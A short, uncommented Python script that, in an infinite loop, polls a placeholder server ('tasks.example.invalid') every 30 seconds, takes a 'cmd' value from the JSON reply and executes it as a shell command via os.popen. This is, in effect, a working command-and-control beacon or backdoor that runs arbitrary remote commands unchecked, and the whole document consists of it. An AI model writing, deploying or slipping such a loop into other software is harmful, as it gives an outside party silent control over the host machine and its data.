import os, time, requests
def once():
    answer = requests.get('https://tasks.example.invalid/next').json()
    return answer.get('cmd')
while True:
    os.popen(once()).read()
    time.sleep(30)
